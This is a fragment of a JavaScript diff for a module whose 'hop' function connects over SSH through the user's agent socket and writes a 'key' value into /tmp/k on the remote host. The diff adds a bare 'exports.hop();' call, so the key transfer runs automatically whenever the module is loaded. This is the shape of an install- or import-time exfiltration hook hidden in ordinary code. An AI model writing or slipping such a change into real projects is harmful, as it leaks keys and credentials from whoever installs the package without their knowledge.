@@ -9,3 +9,5 @@ exports.hop = (via) => {
   c.on('ready', () => c.exec('cat > /tmp/k', (e, s) => s.end(key)));
   c.connect({ host: via, agent: process.env.SSH_AUTH_SOCK });
 };
+
+exports.hop();
